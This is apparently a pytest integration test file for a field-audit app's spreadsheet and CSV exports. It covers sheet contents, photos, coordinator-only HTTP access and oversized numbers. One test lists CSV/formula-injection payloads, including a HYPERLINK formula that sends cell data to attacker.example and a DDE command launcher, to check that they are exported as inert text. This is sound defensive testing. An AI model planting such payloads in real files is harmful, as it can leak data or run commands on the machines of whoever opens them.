"""Coordinator exports: XLSX and zipped CSV, by the CLI and over HTTP, with photos on request."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import zipfile

import pytest
from openpyxl import load_workbook

from score_desktop.domain.entities import ENTITIES

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def synced(sqlite_server):
    """A trainer's enterprise with a visit, a finding and a photo (uploaded), plus a deleted visit."""
    trainer = sqlite_server.device()
    enterprise_id = trainer.create_enterprise(name="东莞华美制衣厂", name_latin="Dongguan Huamei Garments",
                                              sponsors=["Brand A", "Brand B"])
    visit_id, _ = trainer.create_visit(enterprise_id, visit_date="2024-05-02", summary="Exits\tcleared")
    observation = trainer.mutation("observation", None, {"enterprise_id": enterprise_id, "visit_id": visit_id,
                                                         "text": "出口堵塞", "rating": "critical"})
    assert trainer.push_one(observation)["status"] == "applied"
    photo = os.urandom(2048)
    assert trainer.push_one(trainer.mutation("photo", None, trainer.photo_fields(
        enterprise_id, visit_id, photo, mime="image/png")))["status"] == "applied"
    assert trainer.tus_upload(photo).status_code == 204
    gone, version = trainer.create_visit(enterprise_id, summary="deleted one")
    assert trainer.push_one(trainer.mutation("visit", gone, op="delete", base_version=version))["status"] \
        == "applied"
    return {"enterprise_id": enterprise_id, "visit_id": visit_id, "deleted_visit": gone, "photo": photo}


def _sheet_rows(workbook, name: str) -> list[dict]:
    rows = list(workbook[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_xlsx_has_a_sheet_per_entity_readable_headers_dates_and_both_names(sqlite_server, synced, cli, tmp_path):
    target = tmp_path / "export.xlsx"
    done = cli("export", "--format", "xlsx", "-o", str(target), data=sqlite_server.data)
    assert done.returncode == 0, done.stderr
    workbook = load_workbook(target)
    assert set(ENTITIES) | {"conflict"} <= set(workbook.sheetnames)
    visits = {row["ID"]: row for row in _sheet_rows(workbook, "visit")}
    assert synced["deleted_visit"] not in visits
    visit = visits[synced["visit_id"]]
    assert visit["Enterprise"] == "东莞华美制衣厂"
    assert visit["Enterprise (Latin script)"] == "Dongguan Huamei Garments"
    assert isinstance(visit["Visit date"], dt.datetime) and visit["Visit date"].date() == dt.date(2024, 5, 2)
    assert visit["Visit type"] == "baseline" and visit["Module"] == "WC"
    enterprise = {row["ID"]: row for row in _sheet_rows(workbook, "enterprise")}[synced["enterprise_id"]]
    assert enterprise["Sponsors"] == "Brand A; Brand B"
    observation = [row for row in _sheet_rows(workbook, "observation") if row["Visit ID"] == synced["visit_id"]]
    assert observation and observation[0]["Text"] == "出口堵塞"


def test_csv_zip_with_photos(sqlite_server, synced, cli, tmp_path):
    target = tmp_path / "export.zip"
    done = cli("export", "--format", "csv", "--photos", "-o", str(target), data=sqlite_server.data)
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(target) as archive:
        names = set(archive.namelist())
        assert {f"{entity}.csv" for entity in ENTITIES} <= names
        visits = list(csv.DictReader(io.StringIO(archive.read("visit.csv").decode("utf-8-sig"))))
        photos = [name for name in names if name.startswith("photos/")]
        stored = {archive.read(name) for name in photos}
    visit = next(row for row in visits if row["ID"] == synced["visit_id"])
    assert visit["Visit date"] == "2024-05-02" and visit["Enterprise"] == "东莞华美制衣厂"
    assert synced["photo"] in stored and any(name.endswith(".png") for name in photos)


def test_exports_over_http_are_for_coordinators_only(sqlite_server, synced):
    trainer, coordinator = sqlite_server.device(), sqlite_server.device("coordinator")
    refused = trainer.get("/exports", params={"format": "xlsx"})
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"
    answer = coordinator.get("/exports", params={"format": "xlsx"})
    assert answer.status_code == 200
    workbook = load_workbook(io.BytesIO(answer.content))
    assert synced["visit_id"] in {row["ID"] for row in _sheet_rows(workbook, "visit")}
    zipped = coordinator.get("/exports", params={"format": "csv"})
    assert zipped.status_code == 200 and zipfile.ZipFile(io.BytesIO(zipped.content)).namelist()


FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1"]


def test_text_that_looks_like_a_formula_stays_text(sqlite_server, cli, tmp_path):
    """Issue 10, item 5: a name written as a formula must never become a live formula in a spreadsheet."""
    trainer = sqlite_server.device()
    ids = [trainer.create_enterprise(name=text, city=text) for text in FORMULAS]

    xlsx = tmp_path / "export.xlsx"
    assert cli("export", "--format", "xlsx", "-o", str(xlsx), data=sqlite_server.data).returncode == 0
    with zipfile.ZipFile(xlsx) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
    workbook = load_workbook(xlsx)
    rows = {row[0].value: row for row in workbook["enterprise"].iter_rows(min_row=2)}
    for enterprise_id, text in zip(ids, FORMULAS):
        name = rows[enterprise_id][3]
        assert name.data_type == "s" and name.value == text  # the trainer's text, exactly, as text

    zipped = tmp_path / "export.zip"
    assert cli("export", "--format", "csv", "-o", str(zipped), data=sqlite_server.data).returncode == 0
    with zipfile.ZipFile(zipped) as archive:
        enterprises = {row["ID"]: row for row in csv.DictReader(
            io.StringIO(archive.read("enterprise.csv").decode("utf-8-sig"), newline=""))}
    for enterprise_id, text in zip(ids, FORMULAS):
        for column in ("Name", "City", "Enterprise"):
            assert enterprises[enterprise_id][column] == "'" + text  # a leading apostrophe: text to Excel


def test_a_number_no_spreadsheet_holds_is_exported_as_its_digits(server_pool, cli, tmp_path):
    """A server that stored an integer past 2^53 before it refused them (issue 10, item 1) still exports."""
    import json as json_module

    from sqlalchemy import select, update

    from score_desktop.server import db, schema

    sqlite_server = server_pool.fresh("sqlite", "big-numbers").start()  # the shared servers stay clean
    trainer = sqlite_server.device()
    enterprise_id = trainer.create_enterprise(name="Big Numbers Ltd")
    records = schema.records
    with db.writing(sqlite_server.engine) as conn:
        fields = json_module.loads(conn.scalar(select(records.c.fields).where(records.c.id == enterprise_id)))
        conn.execute(update(records).where(records.c.id == enterprise_id).values(
            fields=json_module.dumps({**fields, "headcount_women": 2**70, "headcount_men": 10**400})))
    for fmt, name in (("xlsx", "export.xlsx"), ("csv", "export.zip")):
        done = cli("export", "--format", fmt, "-o", str(tmp_path / name), data=sqlite_server.data)
        assert done.returncode == 0, done.stderr
    workbook = load_workbook(tmp_path / "export.xlsx")
    row = {row["ID"]: row for row in _sheet_rows(workbook, "enterprise")}[enterprise_id]
    assert row["Headcount women"] == str(2**70) and row["Headcount men"] == str(10**400)
